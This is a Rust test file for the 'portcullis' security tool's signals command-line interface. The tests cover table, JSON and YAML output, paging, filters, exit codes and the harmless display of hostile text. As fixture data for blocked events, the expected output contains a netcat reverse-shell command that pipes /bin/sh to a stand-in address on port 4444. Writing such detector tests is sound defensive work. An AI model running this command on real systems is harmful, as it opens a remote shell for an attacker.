use portcullis_proto::v1::{ListSignalsRequest, Severity, Verdict};
use serde_json::Value;

use crate::support::*;

fn node(signals: Vec<portcullis_proto::v1::Signal>) -> (Node, Agent, Data) {
    let data = Data { signals, containers: vec![container()], ..Data::default() };
    let node = Node::new();
    let agent = Agent::start(&node, data.clone());
    (node, agent, data)
}

#[test]
fn table_is_aligned_and_plain_in_a_pipe() {
    let (node, _agent, _) = node(vec![signal(12), signal(7)]);
    let output = node.run(&["signals", "list"]);
    assert!(output.status.success());
    assert_eq!(
        stdout(&output),
        "ID  TIME                  SEVERITY  VERDICT  TOOL  CONTAINER     IMAGE                    COMMAND\n\
         12  2023-11-14T22:13:20Z  high      blocked  nc    0123456789ab  docker.io/library/web:1  nc -e '/bin/sh -i' 203.0.113.7 4444\n\
         7   2023-11-14T22:13:20Z  high      blocked  nc    0123456789ab  docker.io/library/web:1  nc -e '/bin/sh -i' 203.0.113.7 4444\n"
    );
    let wide = stdout(&node.run(&["signals", "list", "-o", "wide"]));
    let (header, row) = wide.split_once('\n').unwrap();
    assert!(header.contains(
        "COUNT  STATE  POD             POLICY   UID  PID   PARENT           EXE                  IDENTIFIED-BY               NOVELTY                      COMMAND"
    ));
    assert!(row.contains(
        "1      open   shop/web-0/web  default  33   1042  /bin/dash[1042]  /usr/bin/nc.openbsd  resolved_name,invoked_name  seen daily since 2023-11-09  nc -e"
    ));
}

#[test]
fn colour_only_when_asked_for() {
    let (node, _agent, _) = node(vec![signal(1)]);
    let coloured = |arguments: &[&str]| stdout(&node.run(&[&["signals", "list"], arguments].concat())).contains('\x1b');
    assert!(!coloured(&[]));
    assert!(!coloured(&["--color", "never"]));
    assert!(coloured(&["--color", "always"]));
}

#[test]
fn hostile_text_is_harmless_in_every_format() {
    let (node, _agent, _) = node(vec![hostile(1)]);
    for format in ["table", "wide", "json", "yaml"] {
        let output = node.run(&["signals", "list", "-o", format]);
        assert_harmless(&stdout(&output));
        assert_harmless(&stdout(&node.run(&["signals", "get", "1", "-o", format])));
    }
    assert_eq!(stdout(&node.run(&["signals", "list"])).lines().count(), 2);
    let json = node.json(&["signals", "list"]);
    assert_eq!(json[0]["process"]["argv"][0], HOSTILE, "JSON keeps the value");
    let yaml = stdout(&node.run(&["signals", "list", "-o", "yaml"]));
    assert_eq!(serde_saphyr::from_str::<Value>(&yaml).unwrap(), json, "YAML is the same value");
    let refused = node.run(&["signals", "list", "--tool", "refuse"]);
    assert_eq!(refused.status.code(), Some(1));
    assert!(stderr(&refused).contains("InvalidArgument"), "{}", stderr(&refused));
    assert_harmless(&stderr(&refused));
}

/// The documented shape: every field is there, known or not.
#[test]
fn json_has_every_field() {
    let (node, _agent, _) = node(vec![signal(3), portcullis_proto::v1::Signal { id: 2, ..Default::default() }]);
    let json = node.json(&["signals", "list"]);
    let keys = |value: &Value| value.as_object().unwrap().keys().cloned().collect::<Vec<_>>();
    let all = [
        "backend",
        "container",
        "count",
        "id",
        "identifiedBy",
        "lastTime",
        "lineage",
        "lineageTruncated",
        "message",
        "network",
        "node",
        "novelty",
        "occurrences",
        "operation",
        "origin",
        "policy",
        "policyRule",
        "process",
        "related",
        "remote",
        "rule",
        "severity",
        "suppressed",
        "time",
        "tool",
        "triage",
        "verdict",
    ];
    assert_eq!(keys(&json[0]), all);
    assert_eq!(keys(&json[1]), all);
    let process = "argc argv argvTruncated argvUnconfirmed containerPid cwd cwdTruncated exe exeTruncated filename \
                   filenameTruncated gid invokedName pid places startTime tid tty uid";
    assert_eq!(keys(&json[0]["process"]), process.split_whitespace().collect::<Vec<_>>());
    let novelty = "daysSeen firstSeen firstTime habitual lastSeen summary timesSeen workloadKnownSince";
    assert_eq!(keys(&json[0]["novelty"]), novelty.split_whitespace().collect::<Vec<_>>());
    assert_eq!((&json[0]["novelty"]["timesSeen"], &json[1]["novelty"]), (&40.into(), &Value::Null));
    assert_eq!(json[0]["id"], 3);
    assert_eq!(json[0]["time"], "2023-11-14T22:13:20.123456789Z");
    assert_eq!(json[0]["verdict"], "blocked");
    assert_eq!(json[0]["identifiedBy"], serde_json::json!(["resolved_name", "invoked_name"]));
    assert_eq!(json[0]["container"]["pod"]["containerName"], "web");
    assert_eq!(json[0]["container"]["ended"], Value::Null);
    assert_eq!(json[0]["process"]["argvUnconfirmed"], true);
    assert_eq!(json[0]["process"]["places"], serde_json::json!(["temporary_directory", "upper_layer"]));
    assert_eq!(json[0]["remote"]["port"], 4444);
    assert_eq!(json[0]["related"], serde_json::json!([3, 5]));
    assert_eq!(json[1]["remote"], Value::Null);
    assert_eq!(json[1]["severity"], "unknown");
    assert_eq!(json[1]["process"], Value::Null);
}

#[test]
fn pages_are_followed_up_to_the_limit() {
    let (node, _agent, data) = node((1..=450).rev().map(signal).collect());
    let ids = |arguments: &[&str]| {
        let json = node.json(&[&["signals", "list"], arguments].concat());
        json.as_array().unwrap().iter().map(|signal| signal["id"].as_u64().unwrap()).collect::<Vec<_>>()
    };
    assert_eq!(ids(&[]), (351..=450).rev().collect::<Vec<_>>());
    assert_eq!(ids(&["--all"]), (1..=450).rev().collect::<Vec<_>>());
    data.lists.lock().unwrap().clear();
    assert_eq!(ids(&["--limit", "250"]).len(), 250);
    let sizes: Vec<_> = data.lists.lock().unwrap().iter().map(|request| request.page_size).collect();
    assert_eq!(sizes, [200, 50]);
    let table = node.run(&["signals", "list"]);
    assert!(stderr(&table).contains("there are more"));
    assert_eq!(stdout(&node.run(&["signals", "list", "--all"])).matches("SEVERITY").count(), 1);
}

#[test]
fn filters_reach_the_agent() {
    let (node, _agent, data) = node(vec![]);
    let arguments = "signals list --container 0123 --tool nc --category netcat --verdict would_block --severity medium \
                     --since 2023-11-14T22:13:20Z --until 1h --image i --pod-namespace n --pod p --rule r --first-time --oldest-first";
    let output = node.run(&arguments.split_whitespace().collect::<Vec<_>>());
    assert_eq!((output.status.code(), stdout(&output)), (Some(0), String::new()));
    assert!(stderr(&output).contains("no signals"));
    let lists = data.lists.lock().unwrap();
    let [ListSignalsRequest { filter: Some(filter), oldest_first: true, page_size: 100, .. }] = lists.as_slice() else {
        panic!("{lists:?}")
    };
    assert_eq!(filter.container_id, CONTAINER_ID, "the beginning of an id is completed");
    assert_eq!((filter.verdict(), filter.min_severity()), (Verdict::WouldBlock, Severity::Medium));
    assert_eq!(filter.since.unwrap().seconds, 1_700_000_000);
    assert!(filter.until.unwrap().seconds > 1_700_000_000);
    let texts = [&filter.tool, &filter.category, &filter.image, &filter.pod_namespace, &filter.pod_name, &filter.rule];
    assert_eq!(texts, ["nc", "netcat", "i", "n", "p", "r"]);
    assert!(filter.first_time_only);
}

#[test]
fn an_empty_list_is_an_empty_array() {
    let (node, _agent, _) = node(vec![]);
    assert_eq!(node.json(&["signals", "list"]), serde_json::json!([]));
    assert_eq!(stdout(&node.run(&["signals", "list", "-o", "yaml"])), "[]\n");
}

#[test]
fn exit_codes_are_the_documented_ones() {
    let node = Node::new();
    for arguments in
        [&["signals", "list"][..], &["signals", "get", "1"], &["signals", "watch"], &["containers", "list"]]
    {
        let output = node.run(arguments);
        assert_eq!(output.status.code(), Some(3), "{arguments:?}");
        let text = stderr(&output);
        assert!(text.starts_with("portcullis: cannot reach portcullisd at "), "{text}");
        assert!(text.contains("No such file or directory"), "{text}");
        assert!(text.trim_end().ends_with("start it (systemctl start portcullisd) or give --socket"), "{text}");
    }
    // A socket file that nobody listens on any more.
    drop(std::os::unix::net::UnixListener::bind(node.socket()).unwrap());
    let output = node.run(&["containers", "list"]);
    assert_eq!(output.status.code(), Some(3));
    assert!(stderr(&output).contains("refused"), "{}", stderr(&output));
    for usage in [
        &["signals", "list", "--since", "yesterday"][..],
        &["signals", "list", "--verdict", "odd"],
        &["signals"],
        &["signals", "list", "--limit", "0"],
    ] {
        assert_eq!(node.run(usage).status.code(), Some(2), "{usage:?}");
    }
    let _agent = Agent::start(&node, Data::default());
    let missing = node.run(&["signals", "get", "9"]);
    assert_eq!(missing.status.code(), Some(1));
    assert!(stderr(&missing).contains("no signal 9"), "{}", stderr(&missing));
}

/// `portcullis signals list --all | head -1`.
#[test]
fn a_reader_that_leaves_is_no_error() {
    let (node, _agent, _) = node((1..=2000).rev().map(signal).collect());
    let mut child = portcullis(&node.socket())
        .args(["signals", "list", "--all", "-o", "json"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    assert_eq!((output.status.code(), stderr(&output)), (Some(0), String::new()));
}
